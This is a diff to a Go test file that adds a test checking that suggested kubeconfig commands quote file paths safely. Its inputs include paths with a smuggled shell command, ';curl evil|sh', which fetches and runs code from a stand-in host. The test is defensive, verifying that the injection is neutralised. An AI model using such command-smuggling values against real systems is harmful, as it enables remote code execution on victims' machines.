@@ -238,3 +238,33 @@ func serve(t *testing.T, h http.Handler) string {
 }
 
 func httpClient(config *rest.Config) (*http.Client, error) { return rest.HTTPClientFor(config) }
+
+// What is proposed to be typed next is one word of a shell, whatever a file is called.
+func TestHintsQuoteTheFile(t *testing.T) {
+	noPlace(t)
+	dir := t.TempDir()
+	for _, o := range []struct {
+		name     string
+		options  Options
+		variable string
+	}{
+		{"missing", Options{Kubeconfig: dir + "/none;curl evil|sh"}, ""},
+		{"KUBECONFIG", Options{}, dir + "/none;curl evil|sh"},
+		{"invalid", Options{Kubeconfig: put(t, dir+"/yaml;curl evil|sh", "a: [b")}, ""},
+	} {
+		t.Run(o.name, func(t *testing.T) {
+			t.Setenv("KUBECONFIG", o.variable)
+			o.options.Namespace = "claws"
+			_, err := Open(o.options)
+			p, ok := advisory.Of(err)
+			if !ok {
+				t.Fatalf("no advisory: %v", err)
+			}
+			for _, c := range p.Commands() {
+				if !strings.HasSuffix(c, ";curl evil|sh'") || strings.Count(c, "'") != 2 {
+					t.Errorf("next: %s", c)
+				}
+			}
+		})
+	}
+}
